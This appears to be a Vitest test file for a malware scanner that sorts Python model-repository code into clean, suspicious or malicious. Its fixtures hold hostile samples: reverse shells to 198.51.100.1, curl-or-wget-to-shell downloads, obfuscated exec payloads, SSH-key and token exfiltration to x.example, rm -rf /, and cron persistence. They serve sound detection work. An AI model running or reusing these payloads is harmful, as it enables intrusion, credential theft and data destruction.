import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { analyzePython } from '../../../src/scan/formats/hf/python-analysis.js';

function run(src: string) {
  const r = analyzePython(src);
  const impacts = r.observations.map((o) => o.impact ?? o.rule.impact);
  const verdict = impacts.includes('malicious')
    ? 'malicious'
    : impacts.includes('inconclusive')
      ? 'inconclusive'
      : impacts.includes('suspicious')
        ? 'suspicious'
        : 'clean';
  const rules = new Set(r.observations.map((o) => o.rule.id));
  const detail = r.observations.map((o) => `${o.rule.id} ${o.message}`).join('\n');
  return { ...r, verdict, rules, detail };
}

const b64 = (s: string | Buffer) => Buffer.from(s).toString('base64');

describe('benign model code stays clean', () => {
  const cases: Array<[string, string]> = [
    [
      'modeling file with the usual imports',
      `"""Model. Run \`curl https://x.example/a.sh | sh\` is only documentation; os.system("x") too."""
import math, os, warnings, logging
from dataclasses import dataclass
from typing import Optional
import torch
from torch import nn
from transformers import PreTrainedModel
from transformers.utils import logging as hf_logging
from .configuration_x import XConfig  # exec(...) in a comment
logger = hf_logging.get_logger(__name__)
_DEBUG = os.environ.get("X_DEBUG") == "1"
os.environ["TOKENIZERS_PARALLELISM"] = "false"
class XModel(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.eval()
        path = os.path.join(os.path.dirname(__file__), "x.bin")
        if not os.path.exists(path):
            warnings.warn(f"missing {path}")
            os.makedirs(os.path.dirname(path), exist_ok=True)
    def eval(self):
        return super().eval()
`,
    ],
    [
      'platform checks and optional kernels',
      `import sys, importlib
import torch
if sys.platform != "darwin":
    torch._C._jit_set_profiling_mode(False)
if importlib.util.find_spec("flash_attn") is not None:
    from flash_attn import flash_attn_func
mod = importlib.import_module(".modeling_x", package=__package__)
try:
    import einops
except ImportError:
    raise ImportError("pip install einops; or curl -LsSf https://astral.sh/uv/install.sh | sh")
`,
    ],
    [
      'reflection on ordinary objects',
      `import re, torch
from torch import nn
dtype = getattr(torch, "bfloat16")
act = getattr(nn, name)()
setattr(self, "x", 1)
cls = globals()[class_name]
pattern = re.compile(r"\\d+")
model = torch.compile(model)
model.eval()
`,
    ],
    [
      'tiktoken vocabulary decoding and file I/O',
      `import base64
def load(path):
    with open(path, "rb") as f:
        return {base64.b64decode(tok): int(rank) for tok, rank in (l.split() for l in f.read().splitlines() if l)}
def save(self, d):
    with open(d + "/vocab.tiktoken", "w") as w:
        w.write(base64.b64encode(b"x").decode())
`,
    ],
    [
      'safe loaders and hub downloads',
      `import torch, yaml, json
from transformers.utils import cached_file
from huggingface_hub import hf_hub_download
sd = torch.load(cached_file(repo, "pytorch_model.bin"), map_location="cpu", weights_only=True)
cfg = yaml.safe_load(open("c.yaml"))
cfg2 = yaml.load(open("c.yaml"), Loader=yaml.SafeLoader)
p = hf_hub_download(repo_id="org/model", filename="extra.json")
data = json.load(open(p))
url = "http://127.0.0.1:8000/v1"
`,
    ],
    [
      'threads and partials',
      'import threading, functools\nt = threading.Thread(target=self._run, daemon=True)\nf = functools.partial(g, 1)\n',
    ],
  ];
  it.each(cases)('%s', (_n, src) => {
    const r = run(src);
    expect(r.verdict, r.detail).toBe('clean');
    expect(
      r.observations.filter((o) => (o.impact ?? o.rule.impact) !== 'none'),
      r.detail,
    ).toEqual([]);
  });
});

describe('resolution of processes behind aliases and indirection', () => {
  const cases: Array<[string, string]> = [
    ['import alias', 'import subprocess as sp\nsp.run(["nvcc", "-V"])\n'],
    ['from import', 'from os import system\nsystem("echo x")\n'],
    ['from import alias', 'from os import popen as p\np("id")\n'],
    ['__import__', '__import__("os").popen("id")\n'],
    ['importlib', 'import importlib\nimportlib.import_module("subprocess").check_output("id")\n'],
    ['getattr with concatenation', 'import os\ngetattr(os, "sys" + "tem")("id")\n'],
    ['module __dict__', 'import os\nos.__dict__["system"]("id")\n'],
    ['sys.modules', 'import sys\nsys.modules["os"].system("id")\n'],
    ['assigned callable', 'import os\nf = os.system\nf("id")\n'],
    ['star import', 'from subprocess import *\nPopen("id")\n'],
    ['posix alias', 'import posix\nposix.system("id")\n'],
    ['callable passed as value', 'import atexit, os\natexit.register(os.system, "id")\n'],
    ['pty', 'import pty\npty.spawn("/bin/bash")\n'],
    ['f-string expression', 'import os\nx = f"{os.system(\'id\')}"\n'],
  ];
  it.each(cases)('%s', (_n, src) => {
    const r = run(src);
    expect(r.rules.has('BW-HF-015'), r.detail).toBe(true);
    expect(r.verdict, r.detail).not.toBe('clean');
  });
});

describe('malicious patterns', () => {
  const cases: Array<[string, string, string[]]> = [
    [
      'exec of a download',
      'import requests\nexec(requests.get("https://x.example/p").text)\n',
      ['BW-HF-010'],
    ],
    [
      'exec of a download through variables',
      'import urllib.request as u\nr = u.urlopen("https://x.example/p")\ncode = r.read()\nexec(code)\n',
      ['BW-HF-010'],
    ],
    [
      'download to a file, then run it',
      'import os, urllib.request\nurllib.request.urlretrieve("https://x.example/a", "/tmp/.cache_x")\nos.system("chmod +x /tmp/.cache_x && /tmp/.cache_x")\n',
      ['BW-HF-010'],
    ],
    [
      'write a download, then exec the file',
      'import requests\nwith open("/tmp/p.py", "wb") as f:\n    f.write(requests.get("https://x.example/p").content)\nexec(open("/tmp/p.py").read())\n',
      ['BW-HF-010'],
    ],
    [
      'pickle.loads of a download',
      'import pickle, requests\nobj = pickle.loads(requests.get(u).content)\n',
      ['BW-HF-010'],
    ],
    ['exec of base64', `import base64\nexec(base64.b64decode("${b64('print(1)')}"))\n`, ['BW-HF-011']],
    [
      'exec of zlib+base64',
      `import zlib, base64\nexec(zlib.decompress(base64.b64decode("${b64(deflateSync(Buffer.from('import os\nos.system("id")')))}")))\n`,
      ['BW-HF-011', 'BW-HF-015'],
    ],
    ['eval of rot13', 'import codecs\neval(codecs.decode("bf.flfgrz(\'vq\')", "rot13"))\n', ['BW-HF-011']],
    ['exec of a reversed string', 'exec(")1(tnirp"[::-1])\n', ['BW-HF-011']],
    ['exec of hex', `exec(bytes.fromhex("${Buffer.from('print(1)').toString('hex')}"))\n`, ['BW-HF-011']],
    ['NFKC exec', `import base64\nｅｘｅｃ(base64.b64decode("${b64('print(1)')}"))\n`, ['BW-HF-011']],
    [
      'marshal code object',
      `import marshal, base64, types\ntypes.FunctionType(marshal.loads(base64.b64decode("YWJj")), globals())()\n`,
      ['BW-HF-011'],
    ],
    [
      'chr chain into exec via builtins',
      '__builtins__.__dict__["exec"]("".join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))\n',
      ['BW-HF-011', 'BW-HF-020'],
    ],
    [
      'reverse shell with pty',
      'import socket, pty, os\ns = socket.socket()\ns.connect(("198.51.100.1", 4444))\n[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\npty.spawn("/bin/sh")\n',
      ['BW-HF-012'],
    ],
    [
      'reverse shell with subprocess on the socket',
      'import socket, subprocess\ns = socket.create_connection(("198.51.100.1", 4444))\nsubprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n',
      ['BW-HF-012'],
    ],
    [
      'reverse shell command string',
      'import os\nos.system("bash -i >& /dev/tcp/198.51.100.1/4444 0>&1")\n',
      ['BW-HF-012'],
    ],
    [
      'download and run command',
      'import subprocess\nsubprocess.run(["bash", "-c", "wget -qO- http://x.example/a | sh"])\n',
      ['BW-HF-014'],
    ],
    ['destructive command', 'import os\nos.system("rm -rf / --no-preserve-root")\n', ['BW-HF-014']],
    [
      'credential theft',
      'import os, requests\nk = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://x.example/c", data=k)\n',
      ['BW-HF-013'],
    ],
    [
      'environment exfiltration',
      'import os, requests\nrequests.post("https://x.example/c", json=dict(os.environ))\n',
      ['BW-HF-013'],
    ],
    [
      'secret env exfiltration',
      'import os, requests\ntok = os.environ.get("HF_TOKEN")\nrequests.post("https://x.example/c", data={"t": tok})\n',
      ['BW-HF-013'],
    ],
    [
      'persistence via cron',
      'import subprocess\nsubprocess.run("(crontab -l; echo \'@reboot /tmp/x\') | crontab -", shell=True)\n',
      ['BW-HF-026'],
    ],
    [
      'persistence via shell rc',
      'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("x")\n',
      ['BW-HF-026'],
    ],
    [
      'code in exec literal',
      "exec(\"import socket,os,pty;s=socket.socket();s.connect(('198.51.100.1',1));os.dup2(s.fileno(),0);pty.spawn('sh')\")\n",
      ['BW-HF-012'],
    ],
  ];
  it.each(cases)('%s', (_n, src, rules) => {
    const r = run(src);
    expect(r.verdict, r.detail).toBe('malicious');
    for (const id of rules) expect(r.rules.has(id), `${id}: ${r.detail}`).toBe(true);
  });
  it('does not execute an encoded blob that is only stored, but reports it', () => {
    const blob = b64(`import socket,subprocess;subprocess.call(["/bin/sh"])${' '.repeat(80)}`);
    const r = run(`BLOB = "${blob}"\n`);
    expect(r.rules.has('BW-HF-020'), r.detail).toBe(true);
    expect(r.verdict, r.detail).toBe('suspicious');
  });
});

describe('suspicious patterns', () => {
  const cases: Array<[string, string, string]> = [
    ['subprocess', 'import subprocess\nsubprocess.check_output(["nvcc", "-V"])\n', 'BW-HF-015'],
    ['network', 'import requests\nr = requests.get("https://huggingface.co/api/models")\n', 'BW-HF-016'],
    ['socket import only', 'import socket\n', 'BW-HF-023'],
    ['urllib.request import only', 'from urllib.request import urlopen\n', 'BW-HF-023'],
    ['exec of a local file', 'exec(open("helper.py").read())\n', 'BW-HF-017'],
    ['eval', 'x = eval(expr)\n', 'BW-HF-017'],
    ['dynamic import', 'import importlib\nm = importlib.import_module(name)\n', 'BW-HF-017'],
    ['getattr with a computed name on os', 'import os\nfn = getattr(os, name)\n', 'BW-HF-017'],
    [
      'spec_from_file_location',
      'import importlib.util\nspec = importlib.util.spec_from_file_location("m", p)\nmod = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(mod)\n',
      'BW-HF-017',
    ],
    ['pickle', 'import pickle\nvocab = pickle.load(open("vocab.pkl", "rb"))\n', 'BW-HF-018'],
    [
      'torch.load without weights_only',
      'import torch\nsd = torch.load(p, map_location="cpu")\n',
      'BW-HF-018',
    ],
    ['torch.load weights_only=False', 'import torch\nsd = torch.load(p, weights_only=False)\n', 'BW-HF-018'],
    ['numpy allow_pickle', 'import numpy as np\na = np.load(p, allow_pickle=True)\n', 'BW-HF-018'],
    ['yaml.load default loader', 'import yaml\nc = yaml.load(open(p))\n', 'BW-HF-018'],
    ['ctypes', 'import ctypes\nlib = ctypes.CDLL("./libkernel.so")\n', 'BW-HF-019'],
    [
      'cpp_extension',
      'from torch.utils import cpp_extension\nk = cpp_extension.load(name="k", sources=["k.cu"])\n',
      'BW-HF-019',
    ],
    [
      'trust_remote_code',
      'from transformers import AutoModel\nm = AutoModel.from_pretrained("org/vision", trust_remote_code=True)\n',
      'BW-HF-022',
    ],
    ['torch.hub.load', 'import torch\nm = torch.hub.load("someone/repo", "model")\n', 'BW-HF-022'],
    [
      'pip at run time',
      'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "flash-attn"])\n',
      'BW-HF-022',
    ],
    ['sys.modules replacement', 'import sys\nsys.modules["torch"] = fake\n', 'BW-HF-024'],
    ['builtins patch', 'import builtins\nbuiltins.open = my_open\n', 'BW-HF-024'],
    ['import hook', 'import sys\nsys.meta_path.insert(0, Finder())\n', 'BW-HF-024'],
    ['chr chain', 'x = chr(104) + chr(101) + chr(108) + chr(108) + chr(111) + chr(33)\n', 'BW-HF-020'],
    ['credential path alone', 'KEY = "~/.aws/credentials"\n', 'BW-HF-013'],
    ['raw IP endpoint', 'import requests\nrequests.get("http://198.51.100.7:8080/ping")\n', 'BW-HF-021'],
    ['exfil host', 'HOOK = "https://discord.com/api/webhooks/123/abc"\n', 'BW-HF-021'],
    [
      'hostile command without an execution call',
      'CMD = "curl -s http://x.example/a.sh | bash"\n',
      'BW-HF-014',
    ],
  ];
  it.each(cases)('%s', (_n, src, rule) => {
    const r = run(src);
    expect(r.rules.has(rule), r.detail).toBe(true);
    expect(r.verdict, r.detail).toBe('suspicious');
  });
  it('reports file-system changes as information only', () => {
    const r = run('import shutil, os\nshutil.rmtree(tmp)\nos.remove(p)\n');
    expect(r.rules.has('BW-HF-025')).toBe(true);
    expect(r.verdict).toBe('clean');
  });
  it('reports other URLs as information only', () => {
    const r = run('BASE = "https://api.example.org/v1"\n');
    expect(r.rules.has('BW-HF-027')).toBe(true);
    expect(r.verdict).toBe('clean');
  });
  it('aggregates repeated uses into one finding with line numbers', () => {
    const r = run('import os\nos.system("a")\nos.system("b")\nos.system("c")\n');
    const f = r.observations.filter((o) => o.rule.id === 'BW-HF-015');
    expect(f).toHaveLength(1);
    expect(f[0].evidence.lines).toEqual([2, 3, 4]);
  });
  it('extracts a decoded pickle passed to pickle.loads', () => {
    const r = run(
      `import pickle, base64\nx = pickle.loads(base64.b64decode("${b64("cos\nsystem\n(S'id'\ntR.")}"))\n`,
    );
    expect(r.embeddedPickles).toHaveLength(1);
    expect(Buffer.from(r.embeddedPickles[0].data).toString()).toContain('system');
  });
});

describe('bounds', () => {
  it('handles deep nesting and long inputs without failing', () => {
    const deep = `x = ${'f('.repeat(5000)}1${')'.repeat(5000)}\n`;
    expect(() => analyzePython(deep)).not.toThrow();
    const getattrs = `${'getattr('.repeat(200)}os${', "a")'.repeat(200)}\n`;
    expect(() => analyzePython(`import os\n${getattrs}`)).not.toThrow();
    const selfRef = 'a = b\nb = a\nexec(a)\nc = c + c\nexec(c)\n';
    expect(() => analyzePython(selfRef)).not.toThrow();
  });
  it('analyses a large file quickly', () => {
    const line = 'y = torch.nn.functional.relu(self.dense(x)) + math.sqrt(2.0) * z["key"]\n';
    const src = `import math, torch\n${line.repeat(20_000)}`;
    const t = Date.now();
    const r = analyzePython(src);
    expect(Date.now() - t).toBeLessThan(10_000);
    expect(r.observations).toEqual([]);
  });
  it('stops at the token limit', () => {
    const r = analyzePython('x = 1\n'.repeat(10_000), { maxTokens: 1000 });
    expect(r.truncated).toBe(true);
  });
});

describe('shadowing', () => {
  it('does not mistake parameters named like builtins for the builtins', () => {
    const r = run(
      'def build(model, compile=False, eval=None):\n    if compile:\n        return model\n    f = lambda exec: exec\n    return eval\n',
    );
    expect(r.verdict, r.detail).toBe('clean');
  });
  it('still sees calls of exec when a parameter elsewhere is named exec', () => {
    const r = run('def f(exec):\n    return exec\nexec(payload)\n');
    expect(r.rules.has('BW-HF-017'), r.detail).toBe(true);
  });
});

describe('downloads from the Hub and text codecs', () => {
  it('torch.load of a Hub file is an ordinary deserialisation finding, exec of one is malicious', () => {
    const load = run(
      'import torch\nfrom huggingface_hub import hf_hub_download\nsd = torch.load(hf_hub_download("org/m", "w.bin"))\n',
    );
    expect(load.verdict, load.detail).toBe('suspicious');
    expect(load.rules.has('BW-HF-018')).toBe(true);
    const ex = run(
      'from huggingface_hub import hf_hub_download\nexec(open(hf_hub_download("org/stage2", "p.py")).read())\n',
    );
    expect(ex.verdict, ex.detail).toBe('malicious');
    expect(ex.rules.has('BW-HF-010')).toBe(true);
  });
  it('does not treat text decoding or a single chr() as obfuscation', () => {
    const r = run('import codecs\nexec(codecs.decode(data, "utf-8"))\neval(chr(65))\n');
    expect(r.rules.has('BW-HF-011'), r.detail).toBe(false);
    expect(r.rules.has('BW-HF-017'), r.detail).toBe(true);
  });
});
